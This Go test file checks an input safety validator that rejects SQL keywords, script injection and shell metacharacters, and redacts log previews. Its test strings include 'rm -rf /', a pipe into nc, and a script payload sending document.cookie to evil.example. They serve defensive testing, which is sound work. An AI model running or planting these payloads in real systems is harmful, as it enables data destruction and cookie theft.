package validation

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"log/slog"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func newTestValidator(buf *bytes.Buffer) *SafetyValidator {
	return NewSafetyValidator(slog.New(slog.NewJSONHandler(buf, &slog.HandlerOptions{Level: slog.LevelDebug})))
}

func TestSafetyValidator_Validate(t *testing.T) {
	tests := []struct {
		name   string
		input  string
		reason Reason // пусто - ввод допустим
	}{
		{name: "business question", input: "How are Q3 revenues trending?"},
		{name: "blank", input: ""},
		{name: "whitespace only", input: "   \t\n"},
		{name: "punctuation in allow-list", input: "Compare: Lagos vs. Abuja - what's \"growth\"?"},
		{name: "unicode letters", input: "Покажи выручку за квартал"},
		{name: "sql select", input: "SELECT * FROM users", reason: ReasonSQLKeywords},
		{name: "sql lowercase", input: "drop table wallets", reason: ReasonSQLKeywords},
		{name: "sql keyword in plain english", input: "please select the best option", reason: ReasonSQLKeywords},
		{name: "sql union", input: "1 union all", reason: ReasonSQLKeywords},
		{name: "keyword inside a word is fine", input: "Show selected updates for created accounts"},
		{name: "script tag", input: "<script>alert(1)</script>", reason: ReasonScript},
		{name: "javascript scheme", input: "open javascript:alert", reason: ReasonScript},
		{name: "event handler", input: "img onerror=steal", reason: ReasonScript},
		{name: "iframe", input: "<iframe src=x>", reason: ReasonScript},
		{name: "eval call", input: "eval (payload)", reason: ReasonScript},
		{name: "document access", input: "print document.cookie now", reason: ReasonScript},
		{name: "window access", input: "go to window.location", reason: ReasonScript},
		{name: "shell chaining", input: "rm -rf / ; echo done", reason: ReasonCommandChars},
		{name: "pipe", input: "cat file | nc host", reason: ReasonCommandChars},
		{name: "backtick", input: "run `id`", reason: ReasonCommandChars},
		{name: "dollar", input: "costs $5", reason: ReasonCommandChars},
		{name: "braces", input: "show {all}", reason: ReasonCommandChars},
		{name: "40 percent special", input: "abcdef@#%^", reason: ReasonSpecialChars},
		{name: "30 percent special", input: "abcdefg@#%"},
		{name: "20 percent special", input: "abcdefgh@#"},
		{name: "single char", input: "a", reason: ReasonLength},
		{name: "two chars", input: "ok"},
		{name: "max length", input: strings.Repeat("a", MaxInputLen)},
		{name: "too long", input: strings.Repeat("a", MaxInputLen+1), reason: ReasonLength},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var buf bytes.Buffer
			v := newTestValidator(&buf)

			err := v.Validate(context.Background(), tt.input)

			if tt.reason == "" {
				require.NoError(t, err)
				assert.True(t, v.IsSafe(context.Background(), tt.input))
				assert.Empty(t, buf.String())
				return
			}

			var rejection *RejectionError
			require.True(t, errors.As(err, &rejection), "expected *RejectionError, got %v", err)
			assert.Equal(t, tt.reason, rejection.Reason)
			assert.Equal(t, tt.reason.Message(), err.Error())
			assert.NotEmpty(t, buf.String())
		})
	}
}

func TestSafetyValidator_CheckOrder(t *testing.T) {
	// SQL проверяется раньше скриптов, скрипты раньше метасимволов, метасимволы раньше длины
	tests := []struct {
		input string
		want  Reason
	}{
		{input: "<script>DROP</script>", want: ReasonSQLKeywords},
		{input: "<script>x</script>", want: ReasonScript},
		{input: ";", want: ReasonCommandChars},
		{input: "@", want: ReasonSpecialChars},
	}

	for _, tt := range tests {
		reason, ok := Classify(tt.input)
		assert.False(t, ok, tt.input)
		assert.Equal(t, tt.want, reason, tt.input)
	}
}

func TestSafetyValidator_LogsRedactedPreview(t *testing.T) {
	var buf bytes.Buffer
	v := newTestValidator(&buf)

	input := "<script>document.location='https://evil.example/?c='+document.cookie</script>" + strings.Repeat("x", 100)
	err := v.Validate(context.Background(), input)
	require.Error(t, err)

	var record map[string]any
	require.NoError(t, json.Unmarshal(buf.Bytes(), &record))

	assert.Equal(t, "WARN", record["level"])
	assert.Equal(t, string(ReasonScript), record["reason"])

	preview, ok := record["preview"].(string)
	require.True(t, ok)
	assert.Equal(t, RedactPreview(input), preview)
	assert.NotContains(t, buf.String(), "<script>")
	assert.NotContains(t, buf.String(), "https://evil.example")
}

func TestRedactPreview(t *testing.T) {
	tests := []struct {
		name  string
		input string
		want  string
	}{
		{name: "plain text kept", input: "Revenue up 5%, why?", want: "Revenue up 5*, why?"},
		{name: "markup masked", input: "<b>hi</b>", want: "*b*hi**b*"},
		{name: "newlines masked", input: "a\nb", want: "a*b"},
		{name: "truncated", input: strings.Repeat("z", 60), want: strings.Repeat("z", PreviewLen)},
		{name: "truncated multibyte", input: strings.Repeat("ж", 80), want: strings.Repeat("ж", PreviewLen)},
		{name: "exactly limit", input: strings.Repeat("z", PreviewLen), want: strings.Repeat("z", PreviewLen)},
		{name: "empty", input: "", want: ""},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assert.Equal(t, tt.want, RedactPreview(tt.input))
		})
	}
}
